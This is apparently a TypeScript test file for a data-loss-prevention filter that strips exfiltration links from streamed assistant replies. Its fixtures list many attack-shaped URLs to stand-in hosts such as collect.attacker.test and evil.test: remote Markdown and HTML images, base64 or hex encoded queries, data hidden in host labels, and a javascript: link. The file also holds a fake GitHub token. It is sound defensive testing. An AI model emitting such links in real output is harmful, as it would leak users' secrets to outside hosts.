import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Redactor } from "../../src/dlp/index.ts";
import { LinkStream, replyStream } from "../../src/dlp/link-stream.ts";
import { defuseLinks, type LinkReason } from "../../src/dlp/links.ts";

const token = ["gh", "p_", "Zt5Lk0QwR8yN2mVbX7cD1fGhJ4sA9e0R8nS3"].join("");

const value = "Project Nightingale 4711";
const policy = { hosts: ["docs.example.com", "*.example.org"], values: [value] };
const base64 = (text: string) => Buffer.from(text).toString("base64url");
const hex = (text: string) => Buffer.from(text).toString("hex");
const sentence = "the password of the database is swordfish";

describe("links that can carry data out", () => {
  it.each<[string, LinkReason, string]>([
    ["an image of Markdown", "remote-image", "![chart](https://collect.attacker.test/p.png)"],
    ["an image with a title", "remote-image", '![a](<https://collect.attacker.test/p.png> "t")'],
    ["an image by reference", "remote-image", "![chart][1]\n\n[1]: https://collect.attacker.test/p.png"],
    ["an image by its own name", "remote-image", "![chart]\n\n[chart]: https://collect.attacker.test/p.png"],
    ["an image of HTML", "remote-image", '<img alt="x" src="https://collect.attacker.test/p.png">'],
    ["an image without a scheme", "remote-image", "![chart](//collect.attacker.test/p.png)"],
    ["a style", "remote-image", '<p style="background:url(https://collect.attacker.test/p.png)">'],
    ["a query in base64", "encoded-data", `[docs](https://attacker.test/?q=${base64(sentence)})`],
    ["a query in hex", "encoded-data", `https://attacker.test/?q=${hex(sentence)}`],
    ["a path in base64", "encoded-data", `see https://attacker.test/a/${base64(sentence)}/b.html.`],
    ["a fragment", "encoded-data", `https://attacker.test/#${base64(sentence)}`],
    ["random units", "encoded-data", "https://attacker.test/?k=kT9xVd3WnPeR5uYhJ8sGf2CcQ4tLb6oN"],
    ["a very long query", "encoded-data", `https://attacker.test/?q=${"all+that+was+said+".repeat(20)}`],
    ["a label of the host", "data-in-host", `https://${hex("swordfish-is-it")}.attacker.test/`],
    [
      "labels of the host",
      "data-in-host",
      `http://${hex("swordfish is the password").replace(/.{14}/g, "$&.")}.x.attacker.test/`,
    ],
    ["a known value", "known-value", `https://docs.example.com/?q=${encodeURIComponent(value)}`],
    ["a known value in base64", "known-value", `https://docs.example.com/?q=${base64(`x ${value}`)}`],
    ["a known value in hex", "known-value", `https://docs.example.com/${hex(value)}`],
    ["a known value with plus signs", "known-value", `https://docs.example.com/?q=${value.replace(/ /g, "+")}`],
    ["a script", "scheme", "[click](javascript:fetch('x'))"],
  ])("[PH-1] are found and taken out: %s", (_what, reason, text) => {
    const { text: defused, findings } = defuseLinks(text, policy);
    expect(findings).toMatchObject([{ reason }]);
    expect(defused).toContain(`[link withheld: ${reason}]`);
    expect(defused).not.toContain("attacker.test");
  });

  it.each([
    "See [the guide](https://nodejs.org/api/http.html#class-httpagent) and https://developer.mozilla.org/en-US/docs/Web/API/URL_API.",
    "https://github.com/nodejs/node/commit/3f9a27c1e84b06d5a2c7f18e9b3d446051ec0a7b",
    "https://github.com/nodejs/node/blob/main/lib/internal/url.js#L120-L140",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array",
    "https://www.npmjs.com/package/@types/node/v/24.19.2?activeTab=versions",
    "https://en.wikipedia.org/wiki/Percent-encoding#Percent-encoding_in_a_URI",
    "https://shop.test/item/123e4567-e89b-42d3-a456-426614174000?ref=mail",
    "![logo](https://docs.example.com/logo.png) and <img src='https://img.example.org/a.png'>",
    "https://docs.example.com/?state=kT9xVd3WnPeR5uYhJ8sGf2CcQ4tLb6oN",
    "http://localhost:8080/health and https://127.0.0.1:3000/",
    "mailto:ann@example.com, ![local](./picture.png), data:image/png;base64,iVBORw0KGgo=",
    "const url = `https://api.test/v1/users/${id}`;",
    "a // comment with words, and 5 // 2",
  ])("[PH-1] are not these: %s", (text) => {
    expect(defuseLinks(text, policy)).toEqual({ text, findings: [] });
  });
});

describe("links in a stream", () => {
  const pieces = [
    ...["![a](", "![a][1]", "[1]: ", "https://evil.test/p.png", "<img src=", ">", ")", "\n", " ", "word", "//", "h"],
    ...[`https://evil.test/?q=${base64(sentence)}`, "https://nodejs.org/api/", "[docs](", "a < b", "data:", "\n\n"],
  ];

  it("[PH-1] are found as in the whole text, however it is cut", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 14 }),
        fc.array(fc.nat(), { maxLength: 12 }),
        (parts, points) => {
          const text = parts.join("");
          const places = [...new Set(points.map((point) => point % (text.length + 1)))].sort((a, b) => a - b);
          const cut = new LinkStream(policy);
          const left = [0, ...places].map((place, i) => cut.push(text.slice(place, places[i]))).join("") + cut.flush();
          const lines = new LinkStream(policy);
          const expected = text
            .split(/(?<=\n)/)
            .map((line) => lines.push(line))
            .join("");
          expect(left).toBe(expected + lines.flush());
        },
      ),
      { numRuns: 500 },
    );
  });

  it("[PH-1] let no part of an address out before it is judged, and hold back no words", () => {
    const stream = new LinkStream(policy);
    let left = "";
    for (const unit of "Some words, and ![x](https://evil.test/p.png?data=1) more.\nNext line.")
      left += stream.push(unit);
    expect(left).not.toContain("evil");
    expect(stream.push(" ") + stream.flush()).not.toContain("evil");
    expect(stream.findings).toMatchObject([{ reason: "remote-image", host: "evil.test" }]);
    expect(new LinkStream(policy).push("Only words here, no more ")).toBe("Only words here, no more ");
  });

  it("[PH-1] [NB-7] let no image and no data out when the stream falls silent anywhere in them", () => {
    const attacks = [
      "![a](https://evil.test/p.png)",
      "say ! ![a][1] so\n[1]: https://evil.test/p.png",
      '<img src="https://evil.test/p.png">',
      `see https://evil.test/?q=${base64(sentence)} now`,
      `//evil.test/${hex(sentence)}`,
      "javascript:evil.test()",
    ];
    const texts = fc.tuple(fc.constantFrom("", "word ", "[x] y ", "http ", "a! ", "(d "), fc.constantFrom(...attacks));
    fc.assert(
      fc.property(texts, fc.array(fc.nat(), { maxLength: 12 }), ([before, attack], points) => {
        const text = `${before}${attack}`;
        const places = [...new Set(points.map((point) => point % (text.length + 1)))].sort((a, b) => a - b);
        const stream = new LinkStream(policy);
        let left = "";
        for (const [i, place] of [0, ...places].entries()) {
          left += stream.push(text.slice(place, places[i]));
          left += stream.idle();
        }
        left += stream.flush();
        expect(left).toContain("[link withheld");
        expect(left).not.toContain("evil.test");
      }),
      { numRuns: 1_000 },
    );
  });

  it("[NB-7] give words when the stream falls silent, and brackets that lead nowhere", () => {
    const stream = new LinkStream(policy);
    expect(stream.push("a [redacted:github-token] wor") + stream.idle()).toBe("a [redacted:github-token] wor");
    expect(stream.push("d, htt") + stream.idle()).toBe("d, htt");
    expect(stream.push("ps://nodejs.org/api/ is good") + stream.flush()).toBe("ps://nodejs.org/api/ is good");
  });

  it("[PH-1] go through the same stream as secrets, unless they are left alone", () => {
    const say = (mode: "withhold" | "off") => {
      const stream = replyStream(new Redactor(), { mode, hosts: [] });
      return stream.push("See ![x](https://evil.test/p.png) and ") + stream.push(`${token} now`) + stream.flush();
    };
    expect(say("withhold")).toBe("See ![x]([link withheld: remote-image]) and [redacted:github-token] now");
    expect(say("off")).toBe("See ![x](https://evil.test/p.png) and [redacted:github-token] now");
  });
});
